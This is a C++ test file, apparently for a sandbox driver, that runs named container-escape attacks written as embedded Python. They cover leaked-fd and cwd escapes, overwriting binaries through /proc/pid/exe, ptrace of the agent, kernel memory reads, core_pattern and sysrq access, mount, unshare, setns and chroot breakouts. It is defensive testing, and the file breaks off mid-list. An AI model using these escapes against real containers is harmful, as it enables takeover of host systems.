// The escape suite (docs/security.md): named attacks on the sandbox, each run twice — on the
// bare host as a control, where it must succeed (so the attack is real and the test of it
// works), then inside a real sandbox of the local driver, where it must fail. Every sandbox run
// happens twice too: with a user namespace and in the fallback without one.
//
// An attack is a Python program (the host image has python3) that prints "ESCAPED: <evidence>"
// and exits 0 when it worked, or prints "blocked: <why>" and exits 1. Anything else (a crash, a
// typo) is neither and fails the test, so a broken attack cannot pass as blocked. Adding one
// is a line in Attacks(): {"name", R"PY(python)PY"}; optional fields set up what it needs.
//
// Controls never harm the machine: what would change host state runs in a throwaway mount
// namespace (unshare --mount) or a temp dir, against copies and victims the suite starts
// itself, or only opens for writing without writing (core_pattern). Resource attacks run in a
// cgroup of their own with generous but finite limits.
//
// Needs root; skips without. Prints one line per attack and, last,
// "N/N blocked, N/N controls succeeded".
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <dirent.h>
#include <poll.h>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include "common/ids.h"
#include "common/time.h"
#include "drivers/driver.h"
#include "drivers/local/driver_state.h"
#include "drivers/local/local_driver.h"
#include "sandbox/cgroup.h"
#include "sandbox/fs.h"
#include "sandbox/mountinfo.h"
#include "sandbox/process.h"
#include "testing/net_util.h"
#include "testing/test_util.h"

namespace hutch::security {
namespace {

using drivers::Driver;
using drivers::SandboxSpec;

// What a sandbox under attack gets: small, so the resource attacks hit the limits quickly.
core::Resources AttackResources() {
  core::Resources r;
  r.cpus = 1;
  r.memory_mb = 128;
  r.pids = 64;
  r.disk_mb = 64;
  return r;
}

struct Outcome {
  enum class Kind { kEscaped, kBlocked, kInconclusive };
  Kind kind = Kind::kInconclusive;
  std::string evidence;
  bool escaped() const { return kind == Kind::kEscaped; }
  bool blocked() const { return kind == Kind::kBlocked; }
};

// How a control runs on the host, filled in by the attack's host_setup.
struct HostRun {
  std::string work;                            // a fresh temp dir (0755)
  std::map<std::string, std::string> env;      // added to the program's environment
  std::vector<UniqueFd> extra_fds;             // become fds 3, 4, … of the program
  std::string cwd;                             // `cd` here first (a shell does it); "" : work
  bool mount_namespace = false;                // run in `unshare --mount` (contained mounts)
  bool control_cgroup = false;                 // run in a cgroup with generous limits
  std::string cgroup_name;                     // that cgroup's name ("" : one made for it)
  std::vector<sandbox::ChildProcess> victims;  // processes the attack goes after; killed after
  std::vector<sandbox::Cgroup> cgroups;        // cgroups it needs; removed after
};

// How the attack runs in a sandbox, filled in by sandbox_setup.
struct SandboxRun {
  std::map<std::string, std::string> env;
  core::Resources resources = AttackResources();
  core::NetworkSpec network;  // mode none unless the attack needs nat
};

class Suite;

struct Attack {
  Attack(std::string n, std::string c) : name(std::move(n)), code(std::move(c)) {}

  std::string name;
  std::string code;  // Python, after kPrelude
  // The program may be killed in the sandbox (OOM): that counts as blocked.
  bool killed_is_blocked = false;
  std::function<void(Suite&, HostRun&)> host_setup;
  std::function<void(Suite&, SandboxRun&)> sandbox_setup;
  // Attacks that need more than one program run in the sandbox (several execs, a second
  // session): replaces the default run. Gets the sandbox under attack.
  std::function<Outcome(Suite&, const Attack&, Driver&, const std::string& id,
                        const std::string& state, const SandboxRun&)>
      sandbox_custom;
};

// Shared by every attack program.
constexpr const char* kPrelude = R"PY(
import ctypes, errno, os, signal, stat, struct, subprocess, sys, time
PLACE = os.environ["HUTCH_ATTACK_PLACE"]   # "host" (the control) or "sandbox"
WORK = os.environ.get("HUTCH_ATTACK_DIR", "/tmp/attack")
os.makedirs(WORK, exist_ok=True)
os.chmod(WORK, 0o755)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def escaped(why):
    sys.stdout.write("ESCAPED: %s\n" % (why,)); sys.stdout.flush(); os._exit(0)
def blocked(why):
    sys.stdout.write("blocked: %s\n" % (why,)); sys.stdout.flush(); os._exit(1)
def err():
    e = ctypes.get_errno()
    return errno.errorcode.get(e, str(e))
def oserr(e):
    return errno.errorcode.get(e.errno, str(e.errno)) if e.errno else str(e)
)PY";

Outcome ParseOutput(const std::string& out, bool exited_zero, bool killed, bool killed_is_blocked,
                    const std::string& err) {
  Outcome o;
  size_t e = out.find("ESCAPED: ");
  size_t b = out.find("blocked: ");
  auto line = [&](size_t pos) { return out.substr(pos, out.find('\n', pos) - pos); };
  if (exited_zero && e != std::string::npos) {
    o.kind = Outcome::Kind::kEscaped;
    o.evidence = line(e + 9);
  } else if (b != std::string::npos) {
    o.kind = Outcome::Kind::kBlocked;
    o.evidence = line(b + 9);
  } else if (killed && killed_is_blocked) {
    o.kind = Outcome::Kind::kBlocked;
    o.evidence = "killed by the kernel (limit reached)";
  } else {
    o.evidence = "no verdict; stdout: " + out.substr(0, 300) + " stderr: " + err.substr(0, 600);
  }
  if (o.evidence.size() > 200) o.evidence = o.evidence.substr(0, 200) + "…";
  return o;
}

// Loop devices whose backing file lies under `prefix` (the suite's data dirs).
int CountLoopDevices(const std::string& prefix) {
  int n = 0;
  DIR* d = opendir("/sys/block");
  if (!d) return 0;
  while (dirent* e = readdir(d)) {
    std::string name = e->d_name;
    if (!name.starts_with("loop")) continue;
    auto backing = sandbox::ReadFileToString("/sys/block/" + name + "/loop/backing_file");
    if (backing.ok() && backing->starts_with(prefix)) ++n;
  }
  closedir(d);
  return n;
}

std::vector<Attack> Attacks();

class Suite {
 public:
  explicit Suite(std::string root) : root_(std::move(root)) {}

  Status Start() {
    // A file only the host has: attacks inside look for it by this path.
    RETURN_IF_ERROR(sandbox::WriteNewFile(root_ + "/host-marker", "x", 0644));
    ASSIGN_OR_RETURN(auto mounts, sandbox::ReadSelfMountInfo());
    ASSIGN_OR_RETURN(layout_, sandbox::DetectCgroupLayout(mounts));
    control_root_ = NewId("hutch-sec");
    ASSIGN_OR_RETURN(controls_, sandbox::CgroupManager::Open(layout_, control_root_));
    for (bool userns : {true, false}) {
      drivers::LocalDriverOptions opts;
      opts.data_dir = root_ + (userns ? "/data-userns" : "/data-root");
      opts.agent_path = HUTCH_AGENT_BINARY;
      opts.cgroup_root_name = driver_root_;
      opts.user_namespaces = userns;
      opts.warm_disk_mb = AttackResources().disk_mb;
      opts.nat.pool_size = 1;
      opts.nat.dns = {hutch::testing::FakeWorld::kInternet};
      // HUTCH_TEST_DRIVER=local-tcp: the same attacks on sandboxes whose agent listens on TCP
      // behind a veth (every sandbox then has one, mode none included).
      const char* driver = getenv("HUTCH_TEST_DRIVER");
      opts.tcp_agents = driver != nullptr && std::string_view(driver) == "local-tcp";
      ASSIGN_OR_RETURN(auto d, drivers::NewLocalDriver(opts));
      drivers_.push_back(std::move(d));
    }
    return Status::Ok();
  }

  // A TCP listener of the host on all its addresses (loopback included), for the nat attacks on
  // the host itself; one for the whole run.
  void StartHostListener() {
    if (!host_listener_) host_listener_ = std::make_unique<hutch::testing::HostListener>("0.0.0.0");
  }
  int host_listener_port() const { return host_listener_ ? host_listener_->port() : 0; }

  // The stand-in for the internet and private networks that nat attacks aim at (made on first
  // use; its routes keep every packet on this machine). Null, with a test failure, if it cannot
  // be set up.
  hutch::testing::FakeWorld* World() {
    if (!world_) {
      world_ = std::make_unique<hutch::testing::FakeWorld>();
      if (!world_->error().empty()) ADD_FAILURE() << "fake world: " << world_->error();
    }
    return world_->error().empty() ? world_.get() : nullptr;
  }

  ~Suite() {
    drivers_.clear();
    world_.reset();
    controls_.reset();
    for (const auto& h : hutch::testing::CgroupHierarchies()) {
      rmdir((h + "/" + control_root_).c_str());
      rmdir((h + "/" + driver_root_).c_str());
    }
  }

  const std::string& root() const { return root_; }
  const std::string& control_root() const { return control_root_; }
  const std::string& driver_root() const { return driver_root_; }
  std::vector<std::unique_ptr<Driver>>& drivers() { return drivers_; }

  // A cgroup for controls, with limits well above the sandbox's and well below the machine's.
  Result<sandbox::Cgroup> ControlCgroup(const std::string& name) {
    sandbox::CgroupLimits limits;
    limits.memory_bytes = int64_t{1} << 30;
    limits.swap_bytes = 0;
    limits.pids_max = 2000;
    return controls_->CreateGroup(name, limits);
  }
  const sandbox::CgroupLayout& layout() const { return layout_; }
  std::string ControlRoot() const { return control_root_; }

  // Starts `argv` on the host as a victim for an attack (killed and reaped afterwards), and
  // waits until it runs `exe` (default argv[0]): before its exec the child is a copy of this
  // test, which an attack must never take for its victim.
  Result<sandbox::ChildProcess> StartVictim(std::vector<std::string> argv, std::string exe = "") {
    if (exe.empty()) exe = argv[0];
    sandbox::SpawnOptions s;
    s.path = argv[0];
    s.argv = std::move(argv);
    UniqueFd null_fd(open("/dev/null", O_RDWR | O_CLOEXEC));
    s.child_fds = {null_fd.get(), null_fd.get(), null_fd.get()};
    ASSIGN_OR_RETURN(sandbox::ChildProcess child, sandbox::SpawnProcess(s));
    std::string link = "/proc/" + std::to_string(child.pid()) + "/exe";
    for (int i = 0; i < 1000; ++i) {
      char buf[4096];
      ssize_t n = readlink(link.c_str(), buf, sizeof buf);
      if (n > 0 && std::string(buf, static_cast<size_t>(n)) == exe) return child;
      std::this_thread::sleep_for(std::chrono::milliseconds(2));
    }
    return Internal("victim " + exe + " did not start");
  }

  Outcome RunControl(const Attack& a) {
    hutch::testing::TempDir work("hutch-attack");
    chmod(work.path().c_str(), 0755);
    HostRun run;
    run.work = work.path();
    if (a.host_setup) a.host_setup(*this, run);

    std::vector<std::string> argv = {"/usr/bin/python3", "-c", std::string(kPrelude) + a.code};
    // A shell changes into the cwd: "/proc/self/fd/3" must be the shell's own fd 3.
    std::string cwd = run.cwd.empty() ? run.work : run.cwd;
    argv.insert(argv.begin(), {"/bin/sh", "-c", "cd \"$0\" && exec \"$@\"", cwd});
    if (run.mount_namespace) {
      argv.insert(argv.begin(), {"/usr/bin/unshare", "--mount", "--propagation", "private", "--"});
    }
    sandbox::SpawnOptions s;
    s.path = argv[0];
    s.argv = argv;
    s.env = {"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
             "HUTCH_ATTACK_PLACE=host", "HUTCH_ATTACK_DIR=" + run.work};
    for (const auto& [k, v] : run.env) s.env.push_back(k + "=" + v);
    int out[2], err[2];
    if (pipe2(out, O_CLOEXEC) != 0 || pipe2(err, O_CLOEXEC) != 0) return {};
    UniqueFd out_r(out[0]), out_w(out[1]), err_r(err[0]), err_w(err[1]);
    UniqueFd null_fd(open("/dev/null", O_RDWR | O_CLOEXEC));
    s.child_fds = {null_fd.get(), out_w.get(), err_w.get()};
    for (const auto& f : run.extra_fds) s.child_fds.push_back(f.get());
    std::optional<sandbox::Cgroup> group;
    UniqueFd cgroup_fd;
    if (run.control_cgroup) {
      std::string name = run.cgroup_name.empty() ? NewId("ctl") : run.cgroup_name;
      auto g = run.cgroup_name.empty()
                   ? ControlCgroup(name)
                   : Result<sandbox::Cgroup>(sandbox::Cgroup(controls_->OpenGroup(name)));
      if (!g.ok()) return {Outcome::Kind::kInconclusive, g.status().ToString()};
      group = std::move(*g);
      if (group->version() == sandbox::CgroupVersion::kV2) {
        auto fd = group->OpenDirFd();
        if (!fd.ok()) return {Outcome::Kind::kInconclusive, fd.status().ToString()};
        cgroup_fd = std::move(*fd);
        s.cgroup_fd = cgroup_fd.get();
      } else {
        s.join_cgroup_tasks = group->TasksFiles();
      }
    }
    auto child = sandbox::SpawnProcess(s);
    out_w.Reset();
    err_w.Reset();
    if (!child.ok()) return {Outcome::Kind::kInconclusive, child.status().ToString()};
    std::string stdout_data, stderr_data;
    ReadBoth(out_r.get(), err_r.get(), &stdout_data, &stderr_data, 180000);
    (void)child->Signal(SIGKILL);  // in case the deadline passed; a no-op otherwise
    auto status = child->Wait();
    run.victims.clear();
    if (group) {
      (void)group->KillAll();
      (void)group->WaitEmpty(5000);
      if (run.cgroup_name.empty())
        (void)group->Remove();
      else
        group->Release();
    }
    bool zero = status.ok() && WIFEXITED(*status) && WEXITSTATUS(*status) == 0;
    bool killed = status.ok() && WIFSIGNALED(*status);
    return ParseOutput(stdout_data, zero, killed, false, stderr_data);
  }

  // Creates a sandbox of `driver` for an attack; "" on failure.
  std::string CreateSandbox(Driver& driver, const core::Resources& res, std::string* state,
                            const core::NetworkSpec& network = {}) {
    SandboxSpec spec;
    spec.session_id = NewId("ses");
    spec.image = "host";
    spec.resources = res;
    spec.network = network;
    auto s = driver.Create(spec);
    if (!s.ok()) {
      ADD_FAILURE() << "create: " << s.status().ToString();
      return "";
    }
    *state = *s;
    return spec.session_id;
  }

  Result<core::ExecResult> ExecProgram(Driver& driver, const std::string& id,
                                       const std::string& state, const std::string& code,
                                       const std::map<std::string, std::string>& env,
                                       const std::string& cwd = "/tmp") {
    core::ExecRequest req;
    req.argv = {"/usr/bin/python3", "-c", std::string(kPrelude) + code};
    req.env = env;
    req.env["HUTCH_ATTACK_PLACE"] = "sandbox";
    req.env["HUTCH_ATTACK_DIR"] = "/tmp/attack";
    req.cwd = cwd;
    req.timeout_ms = 120000;
    return driver.Exec(id, state, req);
  }

  static Outcome FromExec(const Result<core::ExecResult>& r, bool killed_is_blocked) {
    if (!r.ok()) return {Outcome::Kind::kInconclusive, "exec failed: " + r.status().ToString()};
    return ParseOutput(r->stdout_data, r->exit_code == 0, r->signal != 0, killed_is_blocked,
                       r->stderr_data);
  }

  Outcome RunSandboxed(const Attack& a, Driver& driver) {
    SandboxRun run;
    if (a.sandbox_setup) a.sandbox_setup(*this, run);
    std::string state;
    std::string id = CreateSandbox(driver, run.resources, &state, run.network);
    if (id.empty()) return {Outcome::Kind::kInconclusive, "no sandbox"};
    Outcome o = a.sandbox_custom ? a.sandbox_custom(*this, a, driver, id, state, run)
                                 : FromExec(ExecProgram(driver, id, state, a.code, run.env),
                                            a.killed_is_blocked);
    // Blocked must not mean "the sandbox broke": its agent still answers afterwards.
    core::ExecRequest ping;
    ping.argv = {"true"};
    ping.timeout_ms = 30000;
    auto alive = driver.Exec(id, state, ping);
    if (!alive.ok() || alive->exit_code != 0) {
      if (o.blocked()) o.kind = Outcome::Kind::kInconclusive;
      o.evidence += " — and the sandbox no longer answers: " +
                    (alive.ok() ? alive->stderr_data : alive.status().ToString());
    }
    Status st = driver.Destroy(id, state);
    if (!st.ok()) ADD_FAILURE() << a.name << ": destroy: " << st.ToString();
    return o;
  }

 private:
  static void ReadBoth(int out, int err, std::string* o, std::string* e, int64_t timeout_ms) {
    int64_t deadline = MonotonicMillis() + timeout_ms;
    int fds[2] = {out, err};
    std::string* dst[2] = {o, e};
    bool open_[2] = {true, true};
    while (open_[0] || open_[1]) {
      int64_t left = deadline - MonotonicMillis();
      if (left <= 0) return;
      pollfd p[2];
      int n = 0, idx[2];
      for (int i = 0; i < 2; ++i) {
        if (open_[i]) {
          idx[n] = i;
          p[n++] = {fds[i], POLLIN, 0};
        }
      }
      if (poll(p, static_cast<nfds_t>(n), static_cast<int>(left)) <= 0) continue;
      for (int k = 0; k < n; ++k) {
        if (!p[k].revents) continue;
        char buf[65536];
        ssize_t r = read(p[k].fd, buf, sizeof buf);
        if (r <= 0) {
          open_[idx[k]] = false;
        } else if (dst[idx[k]]->size() < (1 << 20)) {
          dst[idx[k]]->append(buf, static_cast<size_t>(r));
        }
      }
    }
  }

  std::string root_;
  std::string driver_root_ = NewId("hutch-sec-drv");
  std::string control_root_;
  sandbox::CgroupLayout layout_;
  std::unique_ptr<sandbox::CgroupManager> controls_;
  std::vector<std::unique_ptr<Driver>> drivers_;
  std::unique_ptr<hutch::testing::FakeWorld> world_;
  std::unique_ptr<hutch::testing::HostListener> host_listener_;
};

// ---- Helpers for attacks ----

UniqueFd OpenDir(const std::string& path) {
  return UniqueFd(open(path.c_str(), O_RDONLY | O_DIRECTORY));  // inheritable on purpose
}

std::string Copy(const std::string& src, const std::string& dst) {
  auto data = sandbox::ReadFileToString(src);
  if (data.ok()) (void)sandbox::WriteNewFile(dst, *data, 0755);
  return dst;
}

// The host pids of a sandbox's processes named `comm`.
std::vector<pid_t> SandboxPidsNamed(const std::string& state, const std::string& comm) {
  std::vector<pid_t> out;
  auto s = drivers::local::DecodeState(state);
  if (!s.ok()) return out;
  // The group and its leaves (agent, work: sandbox/cgroup.h; on v2 only they hold processes).
  std::vector<std::string> dirs;
  for (const auto& dir : s->cgroups) {
    for (const char* leaf : {"", "/agent", "/work"}) dirs.push_back(dir + leaf);
  }
  for (const auto& dir : dirs) {
    auto procs = sandbox::ReadFileToString(dir + "/cgroup.procs");
    if (!procs.ok()) continue;
    size_t i = 0;
    while (i < procs->size()) {
      size_t j = procs->find('\n', i);
      if (j == std::string::npos) j = procs->size();
      pid_t pid = static_cast<pid_t>(std::atoi(procs->substr(i, j - i).c_str()));
      i = j + 1;
      auto c = sandbox::ReadFileToString("/proc/" + std::to_string(pid) + "/comm");
      if (pid > 0 && c.ok() && *c == comm + "\n") out.push_back(pid);
    }
    if (!out.empty()) break;
  }
  return out;
}

bool AliveNotZombie(pid_t pid) {
  auto stat = sandbox::ReadFileToString("/proc/" + std::to_string(pid) + "/stat");
  if (!stat.ok()) return false;
  size_t close = stat->rfind(')');
  return close != std::string::npos && close + 2 < stat->size() && (*stat)[close + 2] != 'Z';
}

std::vector<Attack> Attacks() {
  std::vector<Attack> a;

  // ---- fds and the agent ----
  a.push_back({"leaked-fds", R"PY(
# An fd beyond 0-2 inherited from whoever started us, leading outside (CVE-2024-21626 began so).
found = []
for name in os.listdir("/proc/self/fd"):
    fd = int(name)
    if fd <= 2: continue
    try: found.append((fd, os.readlink("/proc/self/fd/%d" % fd), os.fstat(fd)))
    except OSError: pass   # listdir's own fd, closed by now
for fd, target, st in found:
    if stat.S_ISDIR(st.st_mode):
        escaped("fd %d -> %s lists %s" % (fd, target, sorted(os.listdir(fd))[:4]))
    escaped("fd %d -> %s" % (fd, target))
blocked("no fd beyond 2")
)PY"});
  a.back().host_setup = [](Suite&, HostRun& run) {
    (void)sandbox::WriteNewFile(run.work + "/host-secret", "x", 0600);
    run.extra_fds.push_back(OpenDir(run.work));
  };

  a.push_back({"cwd-via-proc-self-fd", R"PY(
# Started with cwd /proc/self/fd/<n>, where n was a directory fd of whoever started us: the cwd
# is then outside our root (runc CVE-2024-21626).
try:
    cwd = os.getcwd()
except FileNotFoundError:
    escaped("cwd is outside the root: " + os.readlink("/proc/self/cwd"))
names = os.listdir(".")
if "host-secret" in names: escaped("cwd %s holds the host's secret" % cwd)
blocked("cwd %s is ours" % cwd)
)PY"});
  a.back().host_setup = [](Suite&, HostRun& run) {
    (void)sandbox::WriteNewFile(run.work + "/host-secret", "x", 0600);
    run.extra_fds.push_back(OpenDir(run.work));
    run.cwd = "/proc/self/fd/3";
  };
  a.back().sandbox_custom = [](Suite& s, const Attack& self, Driver& d, const std::string& id,
                               const std::string& state, const SandboxRun& run) -> Outcome {
    // The agent resolves the cwd; try every fd number it could hold.
    int refused = 0;
    for (int n = 3; n < 64; ++n) {
      auto r =
          s.ExecProgram(d, id, state, self.code, run.env, "/proc/self/fd/" + std::to_string(n));
      if (!r.ok() || r->exit_code == 126) {
        ++refused;
        continue;
      }
      Outcome o = Suite::FromExec(r, false);
      if (!o.blocked()) return o;
    }
    return {Outcome::Kind::kBlocked,
            std::to_string(refused) + " of 61 cwds /proc/self/fd/3..63 refused, none outside"};
  };

  a.push_back({"overwrite-exec-binary", R"PY(
# CVE-2019-5736's move: hold a running binary through /proc/<pid>/exe, let it exit, reopen the
# handle for writing and replace what the host will run next.
target = os.environ.get("TARGET", "/usr/bin/sleep")
p = subprocess.Popen([target, "30"])
time.sleep(0.2)
try: h = os.open("/proc/%d/exe" % p.pid, os.O_PATH)
except OSError as e: p.kill(); blocked("open /proc/pid/exe: " + oserr(e))
p.kill(); p.wait()
try:
    w = os.open("/proc/self/fd/%d" % h, os.O_WRONLY | os.O_APPEND)
    os.write(w, b"#")
    escaped("appended to " + os.readlink("/proc/self/fd/%d" % h))
except OSError as e: why = "reopen %s for writing: %s" % (os.readlink("/proc/self/fd/%d" % h), oserr(e))
# ETXTBSY only says someone runs it right now; a binary nobody runs shows the rest.
other = os.environ.get("IDLE_TARGET", "/usr/bin/env")
try:
    os.close(os.open(other, os.O_WRONLY | os.O_APPEND)); escaped("opened %s for writing" % other)
except OSError as e: blocked("%s; %s: %s" % (why, other, oserr(e)))
)PY"});
  a.back().host_setup = [](Suite&, HostRun& run) {
    run.env["TARGET"] = Copy("/usr/bin/sleep", run.work + "/sleep-copy");
    run.env["IDLE_TARGET"] = Copy("/usr/bin/env", run.work + "/env-copy");
  };

  a.push_back({"overwrite-agent-binary", R"PY(
# The same against hutch-agent, PID 1 of the sandbox (on the host: a stand-in the suite runs
# from a file it owns).
pid = int(os.environ.get("AGENT_PID", "1"))
try: h = os.open("/proc/%d/exe" % pid, os.O_PATH)
except OSError as e: blocked("open /proc/%d/exe: %s" % (pid, oserr(e)))
try: os.kill(pid, signal.SIGKILL)
except OSError: pass
for _ in range(50):
    if not os.path.exists("/proc/%d/exe" % pid) or open("/proc/%d/stat" % pid).read().split(")")[1].split()[0] == "Z": break
    time.sleep(0.02)
for how in (os.O_WRONLY | os.O_APPEND, os.O_RDWR):
    try:
        w = os.open("/proc/self/fd/%d" % h, how)
        os.write(w, b"#")
        escaped("wrote to the agent's binary " + os.readlink("/proc/self/fd/%d" % h))
    except OSError as e: last = oserr(e)
blocked("reopen for writing: " + last)
)PY"});
  a.back().host_setup = [](Suite& s, HostRun& run) {
    std::string exe = Copy("/usr/bin/sleep", run.work + "/hutch-agent");
    auto v = s.StartVictim({exe, "60"});
    if (!v.ok()) return;
    run.env["AGENT_PID"] = std::to_string(v->pid());
    run.victims.push_back(std::move(*v));
  };

  a.push_back({"ptrace-loop", R"PY(
# For a second and a half, try to seize every process named hutch-agent that we did not start:
# PID 1, and the agent's forks for commands in the instant before they exec. Seizing one that
# still runs the agent's program means controlling the agent. (A fork caught in the middle of
# exec is already the command's program, the user's own: not counted.)
# On the host only the suite's stand-in is a target: other hutch-agents may run there.
comm = "hutch-agent"
only = os.environ.get("ONLY_PID")
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
me = os.getpid(); tries = 0; errs = set(); mid_exec = 0
end = time.time() + 1.5
while time.time() < end:
    for p in ([only] if only else os.listdir("/proc")):
        if not p.isdigit() or int(p) == me: continue
        try:
            if open("/proc/%s/comm" % p).read().strip() != comm: continue
        except OSError: continue
        tries += 1
        if libc.ptrace(PTRACE_SEIZE, int(p), 0, 0) == 0:
            try: exe = os.readlink("/proc/%s/exe" % p)
            except OSError: exe = "?"
            libc.ptrace(PTRACE_DETACH, int(p), 0, 0)
            if "hutch-agent" in exe: escaped("seized pid %s running %s" % (p, exe))
            mid_exec += 1
            continue
        errs.add(err())
blocked("%d attempts, errors %s; %d forks seized mid-exec, already the command's program" % (tries, sorted(errs), mid_exec))
)PY"});
  a.back().host_setup = [](Suite& s, HostRun& run) {
    std::string exe = Copy("/usr/bin/sleep", run.work + "/hutch-agent");
    auto v = s.StartVictim({exe, "60"});
    if (!v.ok()) return;
    run.env["ONLY_PID"] = std::to_string(v->pid());
    run.victims.push_back(std::move(*v));
  };
  a.back().sandbox_custom = [](Suite& s, const Attack& self, Driver& d, const std::string& id,
                               const std::string& state, const SandboxRun& run) -> Outcome {
    // Commands started meanwhile: the agent forks, and the forks are targets until they exec.
    std::atomic<bool> stop{false};
    std::thread busy([&] {
      core::ExecRequest t;
      t.argv = {"true"};
      while (!stop) (void)d.Exec(id, state, t);
    });
    Outcome o = Suite::FromExec(s.ExecProgram(d, id, state, self.code, run.env), false);
    stop = true;
    busy.join();
    return o;
  };

  // ---- /proc and /sys ----
  a.push_back({"proc-keys", R"PY(
# /proc/keys lists kernel keys, which no namespace separates.
r = libc.syscall(248, b"user", b"hutch-escape-test", b"secret", 6, -2)  # add_key to our keyring
try: keys = open("/proc/keys").read()
except OSError as e: blocked("read /proc/keys: " + oserr(e))
if keys.strip(): escaped("/proc/keys shows %d keys" % len(keys.splitlines()))
blocked("/proc/keys is empty (add_key: %s)" % ("ok" if r >= 0 else err()))
)PY"});

  a.push_back({"kernel-memory-kcore-kallsyms", R"PY(
# Kernel memory through /proc/kcore, or its layout (KASLR) through /proc/kallsyms.
try:
    with open("/proc/kcore", "rb") as f:
        if f.read(64): escaped("/proc/kcore is readable")
except OSError as e: kcore = oserr(e)
else: kcore = "empty"
for line in open("/proc/kallsyms"):
    addr = int(line.split()[0], 16)
    if addr: escaped("kernel address %s (%s); /proc/kcore: %s" % (hex(addr), line.split()[2], kcore))
blocked("/proc/kcore: %s; /proc/kallsyms: addresses zeroed" % kcore)
)PY"});

  a.push_back({"proc-timer-list", R"PY(
# /proc/timer_list (and sched_debug) show the host's timers and tasks.
for p in ("/proc/timer_list", "/proc/sched_debug"):
    try:
        data = open(p).read()
        if data: escaped("%s: %d bytes" % (p, len(data)))
    except OSError: pass
blocked("empty or unreadable")
)PY"});

  a.push_back({"sysrq-and-core-pattern", R"PY(
# Writing /proc/sysrq-trigger crashes or reboots the host; writing core_pattern "|/path" runs a
# program as host root on the next crash. Opening for writing proves it; nothing is written.
got = []
for p in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern"):
    try:
        fd = os.open(p, os.O_WRONLY)
        os.close(fd)
        escaped(p + " opens for writing")
    except OSError as e: got.append("%s: %s" % (p, oserr(e)))
blocked("; ".join(got))
)PY"});

  a.push_back({"sysfs-write", R"PY(
# Writable /sys: kernel and device settings of the host.
got = []
for p in ("/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state"):
    try:
        fd = os.open(p, os.O_WRONLY)
        os.close(fd)
        escaped(p + " opens for writing")
    except OSError as e: got.append("%s: %s" % (os.path.basename(p), oserr(e)))
blocked("; ".join(got))
)PY"});

  // ---- mounts and namespaces ----
  a.push_back({"mount", R"PY(
# Mount anything: a tmpfs, then the host's proc and sysfs.
d = WORK + "/mnt"; os.makedirs(d, exist_ok=True)
for src, typ in ((b"none", b"tmpfs"), (b"proc", b"proc"), (b"sysfs", b"sysfs")):
    if libc.mount(src, d.encode(), typ, 0, None) == 0:
        libc.umount2(d.encode(), 2)
        escaped("mounted " + typ.decode())
blocked("mount: " + err())
)PY"});
  a.back().host_setup = [](Suite&, HostRun& run) { run.mount_namespace = true; };

  a.push_back({"unmount-proc-masks", R"PY(
# Take a mask off /proc (on the host, in a mount namespace of its own: one we put there).
target = os.environ.get("MASKED", "/proc/keys").encode()
if os.environ.get("MASKED"):
    libc.mount(b"/dev/null", target, None, 4096, None)  # MS_BIND
if libc.umount2(target, 2) == 0: escaped("unmounted " + target.decode())
blocked("umount2: " + err())
)PY"});
  a.back().host_setup = [](Suite&, HostRun& run) {
    run.mount_namespace = true;
    (void)sandbox::WriteNewFile(run.work + "/masked", "x", 0644);
    run.env["MASKED"] = run.work + "/masked";
  };

  a.push_back({"unshare", R"PY(
# New namespaces: a user namespace gives CAP_SYS_ADMIN over new mount namespaces.
for flag, name in ((0x10000000, "user"), (0x00020000, "mount"), (0x40000000, "net")):
    if libc.unshare(flag) == 0: escaped("unshare(CLONE_NEW%s)" % name.upper())
blocked("unshare: " + err())
)PY"});

  a.push_back({"setns", R"PY(
# Join another process's namespaces: in a sandbox PID 1's, the agent's (a way back towards the
# host); on the host a victim's with namespaces of its own.
pid = int(os.environ.get("TARGET_PID", "1"))
got = []
for ns in ("uts", "ipc", "net", "mnt", "pid", "user", "cgroup"):
    try: fd = os.open("/proc/%d/ns/%s" % (pid, ns), os.O_RDONLY)
    except OSError as e: got.append("%s: open %s" % (ns, oserr(e))); continue
    if libc.setns(fd, 0) == 0 and os.readlink("/proc/self/ns/" + ns) == os.readlink("/proc/%d/ns/%s" % (pid, ns)):
        escaped("joined the %s namespace of pid %d" % (ns, pid))
    got.append("%s: %s" % (ns, err()))
blocked("; ".join(got))
)PY"});
  a.back().host_setup = [](Suite& s, HostRun& run) {
    // unshare execs sleep once the namespaces exist.
    auto v =
        s.StartVictim({"/usr/bin/unshare", "--uts", "--ipc", "--net", "--", "/usr/bin/sleep", "60"},
                      "/usr/bin/sleep");
    if (!v.ok()) return;
    run.env["TARGET_PID"] = std::to_string(v->pid());
    run.victims.push_back(std::move(*v));
  };

  a.push_back({"chroot-escape", R"PY(
# The classic: chroot into a subdirectory, climb out with .. from an fd above it, and look
# for a file that exists only on the host.
marker = os.environ["MARKER"]
os.makedirs(WORK + "/jail", exist_ok=True)
up = os.open("/", os.O_RDONLY)
try: os.chroot(WORK + "/jail")
except OSError as e: blocked("chroot: " + oserr(e))
os.fchdir(up)
for _ in range(64): os.chdir("..")
os.chroot(".")
if os.path.exists(marker): escaped("reached the host's " + marker)
blocked("out of the chroot, but still inside the sandbox's root")
)PY"});
  a.back().host_setup = [](Suite& s, HostRun& run) {
    (void)s;
    (void)sandbox::WriteNewFile(run.work + "/host-marker", "x", 0644);
    run.env["MARKER"] = run.work + "/host-marker";
  };
  a.back().sandbox_setup = [](Suite& s, SandboxRun& run) {
    run.env["MARKER"] = s.root() + "/host-marker";
  };

  a.push_back({"proc-pid-root", R"PY(
# /proc/<pid>/root of a process with another root is a door to its filesystem.
marker = os.environ["MARKER"]
for p in os.listdir("/proc"):
    if p.isdigit():
        try:
            if os.path.exists("/proc/%s/root%s" % (p, marker)): escaped("/proc/%s/root leads to the host" % p)
        except OSError: pass
blocked("no /proc/<pid>/root leads to " + marker)
)PY"});
  a.back().host_setup = a[a.size() - 2].host_setup;
  a.back().sandbox_setup = a[a.size() - 2].sandbox_setup;

  a.push_back({"open-by-handle-shocker", R"PY(
